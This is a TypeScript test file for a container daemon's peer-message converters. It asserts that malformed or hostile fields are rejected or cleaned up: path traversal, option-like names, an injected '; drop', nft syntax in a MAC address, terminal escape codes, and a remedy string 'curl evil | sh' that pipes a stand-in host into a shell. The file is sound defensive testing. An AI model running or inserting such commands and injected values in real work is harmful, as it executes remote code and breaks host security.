import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Claims } from '../../../src/base/claims.ts';
import {
  claimsFromPeer,
  claimsToWire,
  findingsFromPeer,
  jobFromPeer,
  verdictFromPeer,
} from '../../../src/daemon/convert.ts';
import { CLAIMS } from '../../support/fake-move.ts';

const FULL: Claims = {
  ...CLAIMS,
  imageLayers: [`sha256:${'0'.repeat(64)}`],
  networks: [
    {
      network: 'lan',
      driver: 'macvlan',
      subnets: ['10.77.0.0/24', 'fd77::/64'],
      addresses: ['10.77.0.130/24', 'fd77::a:1/64'],
      mac: '02:00:00:00:00:30',
      interface: 'eth0',
    },
  ],
  volumes: ['data'],
  secrets: ['key'],
};

describe('the claims of a peer', () => {
  it('come through as they were made', () => {
    expect(claimsFromPeer(claimsToWire(FULL))).toEqual(FULL);
  });

  it.each([
    ['an id that is a path', { container: '../../../etc' }],
    ['an id in capitals', { container: 'C'.repeat(64) }],
    ['a name that is an option', { name: '-rf' }],
    ['a name with a slash', { name: 'a/b' }],
    ['a name with a newline', { name: 'a\nb' }],
    ['an empty name', { name: '' }],
    ['a name of 256 bytes', { name: 'a'.repeat(256) }],
    ['an image name that is an option', { imageName: '--all' }],
    ['a layer that is no digest', { imageLayers: ['sha256:..'] }],
    ['another runtime', { runtime: '/tmp/evil' }],
    ['a volume outside of its place', { volumes: ['../x'] }],
    ['a secret with a NUL', { secrets: ['a\0'] }],
    ['negative bytes', { memoryBytes: -1 }],
    ['bytes that are no number', { diskBytes: Number.NaN }],
    [
      'an address that is a command',
      { networks: [{ ...FULL.networks[0], addresses: ['; drop'] }] },
    ],
    ['a MAC with nft words', { networks: [{ ...FULL.networks[0], mac: '} accept {' }] }],
    ['an interface with a path', { networks: [{ ...FULL.networks[0], interface: '../eth0' }] }],
    ['a thousand networks', { networks: Array.from({ length: 1_000 }, () => FULL.networks[0]) }],
  ])('are refused by field with %s', (_what, change) => {
    expect(() => claimsFromPeer({ ...claimsToWire(FULL), ...change })).toThrow(/^claims\./);
  });

  it('never make a value that holds a control character, a quote or a brace', () => {
    const text = fc.string({ unit: 'binary', maxLength: 20 });
    fc.assert(
      fc.property(text, fc.constantFrom('name', 'imageName', 'runtime', 'container'), (s, key) => {
        try {
          const claims = claimsFromPeer({ ...claimsToWire(FULL), [key]: s });
          expect(String(claims[key as keyof Claims])).toMatch(/^[a-zA-Z0-9_./:@-]+$/);
        } catch (error) {
          expect(error).toMatchObject({ code: 'PEER_PROTOCOL' });
        }
      }),
      { numRuns: 500 },
    );
  });
});

describe('what else a peer says', () => {
  it('of a job: an id that is a path is refused', () => {
    expect(() => jobFromPeer({ job: '../x', epoch: 1 })).toThrow(/request\.job/);
    expect(() => jobFromPeer({ job: 'a'.repeat(32), epoch: 0 })).toThrow(/request\.epoch/);
  });

  it('of a finding: the remedy is ours, and its words cannot steer a terminal', () => {
    const sent = { code: 'CONFLICT_IP', blocks: true, host: 'x', evidence: 'a\u001b[2Jb' };
    const [found] = findingsFromPeer([{ ...sent, remedy: 'curl evil | sh' }], 'hostb');
    expect(found).toMatchObject({
      host: 'hostb',
      remedy: expect.stringMatching('free the address on the target'),
    });
    expect(found?.evidence).not.toContain('\u001b');
  });

  it('of a verdict: a word the protocol does not know is no verdict', () => {
    const verdict = { state: 'running', mayHaveRunMs: 0, thawMs: 1, failure: null };
    expect(verdictFromPeer(verdict, 'b').state).toBe('running');
    expect(() => verdictFromPeer({ ...verdict, state: 'fine' }, 'b')).toThrow(/verdict\.state/);
  });
});
